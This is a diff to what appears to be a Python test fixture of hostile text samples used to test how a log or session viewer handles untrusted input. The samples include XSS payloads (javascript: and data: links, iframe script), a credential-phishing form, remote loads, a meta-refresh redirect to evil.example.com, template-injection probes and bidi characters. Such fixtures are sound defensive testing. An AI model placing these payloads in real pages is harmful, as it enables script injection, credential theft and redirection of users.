@@ -14,10 +14,10 @@ TEXTS = {
     "javascript-link": f"javascript:alert('{MARK}')",
     "data-link": f"data:text/html,<script>alert('{MARK}')</script>",
     "markdown": f"[here](javascript:alert('{MARK}')) ![x](https://evil.example.com/{MARK}.png)",
-    "remote-image": f'<img src="https://evil.example.com/{MARK}.png"><link rel=stylesheet href=//evil.example.com/x.css>',
+    "remote-image": f'<img src="https://evil.example.com/{MARK}.png"><link rel=stylesheet href=//evil.example.com>',
     "frame": f'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="//evil.example.com/{MARK}">',
     "form": f'<form action="https://evil.example.com/{MARK}"><input name=key><button>Sign in</button></form>',
-    "meta": f'<meta http-equiv="refresh" content="0;url=https://evil.example.com/{MARK}"><base href="//evil.example.com/">',
+    "meta": f'<meta http-equiv="refresh" content="0;url=https://evil.example.com/{MARK}"><base href="//evil.test/">',
     "htmx": f'<a hx-get="https://evil.example.com/{MARK}" hx-trigger="load" hx-on:click="alert(1)">x</a><hx-partial>',
     "template": f"{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} #{{7*7}} <%= 7*7 %> {MARK}",
     "bidi": f"\u202egnp.{MARK}\u2066\u2069\u200f\u061c\u200b\ufeff\U000e0041",
@@ -35,10 +35,10 @@ DEEP_JSON = '{"a":' * 180 + f'"{MARK}"' + "}" * 180
 _START = "2026-11-20T08:00:{:02d}.000Z"
 
 
-def hostile_events() -> Iterator[bytes]:
+def hostile_bodies() -> Iterator[bytes]:
     """Events of one session for each hostile text, and for texts that are long; those too long belong in quarantine."""
     for number, text in enumerate(TEXTS.values()):
-        yield from _session(number, text, text)
+        yield b"\n".join(_session(number, text, text))
     for number, text in enumerate((LONG_LINE, LONG_JSON, DEEP_JSON), len(TEXTS)):
         yield from _session(number, text, "a short name")
 
